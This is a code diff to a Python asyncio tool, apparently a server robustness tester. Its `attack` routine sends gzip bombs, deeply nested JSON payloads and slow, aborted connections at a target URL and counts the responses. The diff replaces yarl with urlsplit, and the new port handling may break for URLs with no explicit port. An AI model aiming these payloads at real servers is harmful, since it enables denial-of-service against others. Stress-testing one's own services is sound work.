@@ -10,9 +10,9 @@ import json
 import os
 import re
 import time
+from urllib.parse import urlsplit
 
 import aiohttp
-import yarl
 
 _STAY_SECONDS = 8  # of a hostile connection, which is less than it may
 _LISTS = b'{"inputs": {"seed": [' + b"[0]," * 250_000 + b"1]}}"
@@ -60,7 +60,7 @@ async def attack(url, rate, end):
       A Counter of the statuses of those that are answered; None counts those whose connection the
       server closed.
     """
-    url, statuses = yarl.URL(url), collections.Counter()
+    statuses = collections.Counter()
     kinds = itertools.cycle(
         [
             lambda: _answered(url, statuses, _bomb(), {"Content-Encoding": "gzip"}),
@@ -102,8 +102,9 @@ def _bomb():
 
 async def _leaving(url, statuses, data, seconds):
     """Sends data to the server and aborts the connection after a while, or once it is answered."""
+    place = urlsplit(url)
     try:
-        reader, writer = await asyncio.open_connection(url.host, url.port)
+        reader, writer = await asyncio.open_connection(place.hostname, place.port)
     except OSError:
         statuses[None] += 1
         return
@@ -116,5 +117,5 @@ async def _leaving(url, statuses, data, seconds):
 
 
 def _head(url, length):
-    lines = [f"POST {url.path} HTTP/1.1", "Host: x", f"Content-Length: {length}", "", ""]
+    lines = [f"POST {urlsplit(url).path} HTTP/1.1", "Host: x", f"Content-Length: {length}", "", ""]
     return "\r\n".join(lines).encode()
